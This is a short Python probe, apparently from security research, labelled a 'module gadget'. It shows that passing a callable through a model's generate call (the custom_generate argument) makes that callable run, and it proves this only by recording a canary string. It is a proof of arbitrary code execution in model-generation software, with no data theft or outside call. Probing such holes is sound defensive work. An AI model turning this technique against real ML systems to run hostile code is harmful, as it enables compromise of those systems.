"""Class: module gadget. Source: own find. Escape: custom_generate names code to run."""


def attack(model, tokenizer, address):
    seen = []

    def own(*args, **kw):
        seen.append("canary-" + "5d1f")
        return args

    model.generate(**tokenizer("the", return_tensors="pt"), custom_generate=own, max_new_tokens=1)
    return seen
